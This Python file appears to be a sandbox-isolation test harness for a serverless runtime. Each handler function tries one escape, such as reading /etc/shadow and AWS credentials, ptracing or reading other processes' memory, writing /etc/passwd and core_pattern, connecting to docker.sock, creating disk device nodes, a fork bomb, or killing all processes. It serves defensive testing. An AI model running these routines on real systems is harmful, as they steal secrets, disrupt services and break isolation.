"""A handler that tries to get out of its sandbox, or at what is another's.

Each attempt knows everything that an attacker could guess (``event``); it returns what it got,
which counts as success unless it is false, or fails with an error.
"""

import ctypes
import errno
import glob
import os
import signal
import socket
import sys
import time
import urllib.request

SECRET = b"TOP-SECRET"  # of the service, its user, or another function
LIBC = ctypes.CDLL(None, use_errno=True)


def called(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path):
    with open(path, "rb") as file:
        return file.read(65536)


def first_of(paths, attempt):
    """What the first attempt that works gives; the last error if none does."""
    error = None
    for path in paths:
        try:
            if found := attempt(path):
                return f"{path}: {found}"
        except OSError as reason:
            error = reason
    if error is not None:
        raise error
    return None


def others(event, *what):
    """The processes that belong to others, and files of /proc about them."""
    pids = [event[name] for name in ("service", "guard", "victim", "bystander")]
    pids += [int(name) for name in os.listdir("/proc") if name.isdigit()]
    pids = [pid for pid in dict.fromkeys(pids) if pid not in (os.getpid(), os.getppid())] + [1]
    return [f"/proc/{pid}/{one}" for pid in pids for one in what] if what else pids


def environment_of_others(event):
    return first_of(others(event, "environ"), lambda path: SECRET in read(path))


def command_lines_of_others(event):
    return first_of(others(event, "cmdline"), lambda path: SECRET in read(path))


def processes_of_others(event):
    seen = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    return sorted(seen & {event[name] for name in ("service", "guard", "victim", "bystander")})


def memory_of_others(event):
    return first_of(others(event, "mem", "maps"), lambda path: open(path, "rb").read(1))


def descriptors_of_others(event):
    return first_of(others(event, "fd"), os.listdir)


def root_of_others(event):
    return first_of(others(event, "root/etc", "cwd/"), os.listdir)


def ptrace_others(event):
    return first_of(others(event), lambda pid: called(LIBC.ptrace(16, pid, 0, 0)) == 0)


def read_memory_by_call(event):
    buffer = ctypes.create_string_buffer(8)

    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    own = Part(ctypes.addressof(buffer), 8)
    theirs = Part(0x400000, 8)

    def attempt(pid):
        try:
            args = (ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0)
            return called(LIBC.process_vm_readv(pid, *args)) >= 0
        except OSError as error:
            return error.errno == errno.EFAULT  # allowed, but nothing is there

    return first_of(others(event), attempt) or None


def stop_others(event):
    def stop(pid):
        os.kill(pid, 0)
        os.kill(pid, signal.SIGCONT)
        return True

    return first_of([pid for pid in others(event) if pid != 1], stop)


def end_the_first_process(event):
    os.kill(1, signal.SIGKILL)
    time.sleep(0.2)


def kill_all(event):
    """Whether others live on is looked at by the service."""
    if event["own_pids"]:  # elsewhere this would end whatever the user runs
        os.kill(-1, signal.SIGKILL)


def renice_others(event):
    pids = [pid for pid in others(event) if pid != 1]
    return first_of(pids, lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19) is None)


def limits_of_others(event):
    import resource

    return first_of(
        [pid for pid in others(event) if pid != 1],
        lambda pid: bool(resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0))),
    )


def shadow(event):
    return first_of(["/etc/shadow", "/etc/gshadow", "/etc/shadow-"], read)


def credentials(event):
    paths = [f"{home}/.aws/credentials" for home in event["homes"]]
    return first_of([*paths, os.path.expanduser("~/.aws/credentials")], read)


def store_and_journal(event):
    return first_of(event["kept"], read)


def folders_of_people(event):
    """Whether anything of a machine shows that is not part of its system."""
    return first_of(event["beside"], os.listdir)


def files_of_another_function(event):
    return first_of([event["victim_task"], event["victim_tmp"]], os.listdir)


def own_code(event):
    return first_of([__file__, "/var/task/new.py"], lambda path: open(path, "a").write("x"))


def write_the_machine(event):
    places = [f"/{name}" for name in os.listdir("/") if name not in ("tmp", "proc", "dev")]
    places += ["/usr/local/bin", "/var/tmp", "/etc/cron.d", "/opt", "/dev", *event["beside"]]
    return first_of(places, lambda path: open(f"{path}/tuner-escape", "w").close() is None)


def change_the_machine(event):
    paths = [
        *("/etc/passwd", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"),
        *glob.glob("/sys/kernel/*")[:50],
        *glob.glob("/sys/fs/cgroup/**/*max", recursive=True)[:50],
        *glob.glob("/sys/fs/cgroup/*/cpu.*")[:50],
        *glob.glob("/usr/bin/python3*"),
    ]
    return first_of(paths, lambda path: not os.path.isdir(path) and bool(open(path, "ab")))


def leave_the_cgroup(event):
    paths = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    return first_of(paths, lambda path: open(path, "w").write(str(os.getpid())))


def link_in_tmp(event):
    def follow(path):
        link = "/tmp/link"
        if os.path.lexists(link):
            os.unlink(link)
        os.symlink(path, link)
        return read(link) if os.path.isfile(link) else os.listdir(link)

    return first_of([*event["kept"], event["victim_tmp"], "/etc/shadow"], follow)


def hard_link_in_tmp(event):
    return first_of(["/etc/passwd", __file__], lambda path: os.link(path, "/tmp/hard") is None)


def shared_memory(event):
    with open("/dev/shm/tuner-escape", "wb") as file:
        return file.write(b"x")


def system_v_memory(event):
    called(LIBC.shmget(event["shm_key"], 0, 0))
    return "the segment of another"


def api_of_another_sandbox(event):
    url = f"http://{event['victim_api']}/2018-06-01/runtime/invocation/next"
    with urllib.request.urlopen(url, timeout=5) as answer:
        return answer.read() or "an event"


def answer_for_another_sandbox(event):
    url = f"http://{event['victim_api']}/2018-06-01/runtime/init/error"
    with urllib.request.urlopen(url, data=b"{}", timeout=5) as answer:
        return answer.status


def sockets_of_services(event):
    def connect(path):
        with socket.socket(socket.AF_UNIX) as link:
            link.connect(path)
        return True

    places = [event["socket"], *glob.glob("/run/**/*.sock*", recursive=True)]
    return first_of([*places, "/var/run/docker.sock"], connect)


def abstract_sockets(event):
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(f"\0{event['abstract']}")
    return "connected"


def inherited_descriptors(event):
    """A socket that another process has made, such as those of the guard."""

    def maker(name):
        with socket.socket(fileno=os.dup(int(name))) as one:
            if one.family != socket.AF_UNIX:
                return None
            credentials = one.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
            pid = int.from_bytes(credentials[:4], sys.byteorder)
            return None if pid == os.getpid() else f"of {pid}"

    return first_of(os.listdir("/proc/self/fd"), maker)


def keys_of_the_user(event):
    if os.uname().machine == "x86_64":
        called(LIBC.syscall(249, b"user", event["key"].encode(), None, 0))
        return "a key"
    return None


def packets_of_others(event):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768):
        return "a raw socket"


def kernel_and_disks(event):
    os.mkdir("/tmp/nodes")
    for major, minor in event["disks"]:
        try:
            os.mknod(f"/tmp/nodes/{major}-{minor}", 0o60600, os.makedev(major, minor))
        except OSError:
            continue
    paths = [f"/tmp/nodes/{name}" for name in os.listdir("/tmp/nodes")]
    paths += ["/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"]
    return first_of(paths, read)


def get_rights_back(event):
    for number in (0, event["owner"]):
        try:
            os.setuid(number)
        except OSError:
            continue
        if number != event["uid"]:
            return f"user {number}"
    called(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    return "a mount"


def rights_in_a_new_namespace(event):
    """Undo a mount with the rights of a user namespace inside the sandbox."""
    called(LIBC.unshare(0x10000000 | 0x00020000))
    for path in ("/var", "/home", "/root", "/dev", "/run", "/etc/passwd", "/var/task", "/tmp"):
        if LIBC.umount2(path.encode(), 2) == 0:
            return f"nothing over {path}"
    called(LIBC.mount(None, b"/usr", None, 32 | 4096, None))
    return "/usr is writable"


def set_user_programs(event):
    """Get another user's rights by a program that has them."""
    import subprocess

    for program in ("/usr/bin/su", "/usr/bin/sudo", "/usr/bin/newuidmap", "/bin/mount"):
        if os.path.exists(program):
            subprocess.run([program], capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    return None if status["NoNewPrivs"].strip() == "1" else "new rights"


def fork_bomb(event):
    children = []
    try:
        for _ in range(event["processes"] + 200):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return f"{len(children)} processes"


def open_files(event):
    held = [open("/dev/null") for _ in range(10_000)]
    return f"{len(held)} files"


def fill_tmp(event):
    """Ten times what there is room for, in small files that are kept."""
    for number in range(event["tmp_mb"] * 10 // 2):
        with open(f"/tmp/part{number}", "wb") as file:
            file.write(b"x" * (2 << 20))
        time.sleep(0.05)
    return "ten times its room"


def fill_tmp_with_deleted_files(event):
    held = []
    for number in range(event["tmp_mb"] * 10 // 2):
        file = open(f"/tmp/gone{number}", "wb")
        os.unlink(file.name)
        file.write(b"x" * (2 << 20))
        file.flush()
        held.append(file)
        time.sleep(0.05)
    return "ten times its room"


def very_many_files(event):
    """Ten times as many as there is room for."""
    room = event["tmp_mb"] << 20 >> 14
    for number in range(10 * room):
        open(f"/tmp/many{number}", "w").close()
        if number % 100 == 0:
            time.sleep(0.02)
    return f"{10 * room} files"


def stay_after_the_end(event):
    """Leave a process of another session, which the service then looks for."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ.clear()
            time.sleep(600)
        os._exit(0)
    os.wait()


ATTEMPTS = [
    name
    for name, one in list(globals().items())
    if getattr(one, "__code__", None)
    and one.__code__.co_varnames[:1] == ("event",)
    and name not in ("others", "handler")
]


def handler(event, context):
    if event["do"] == "list":
        return ATTEMPTS
    try:
        got = globals()[event["do"]](event)
        return {"got": str(got)[:200] if got else None, "uid": os.getuid()}
    except Exception as error:
        return {"error": f"{type(error).__name__}: {error}"[:200], "uid": os.getuid()}
